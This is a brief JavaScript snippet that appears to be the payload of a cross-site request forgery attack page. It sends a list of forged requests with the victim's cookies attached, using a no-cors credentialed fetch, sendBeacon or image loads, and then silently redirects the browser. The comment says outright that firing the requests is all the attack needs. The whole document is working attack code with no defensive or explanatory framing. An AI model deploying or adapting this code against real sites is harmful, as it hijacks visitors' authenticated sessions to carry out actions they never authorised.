// Requests that no page is left for, and whose answers nobody may read. That they are sent is all that the attack needs.
const { requests, body, next } = orders;

const ways = {
  fetch: (address) => fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {}),
  beacon: (address) => navigator.sendBeacon(address, body),
  image: (address) =>
    new Promise((over) => {
      const image = new Image();
      image.onload = image.onerror = over;
      image.src = address;
    }),
};

for (const { vector, address } of requests) await ways[vector](address);
location.replace(next);
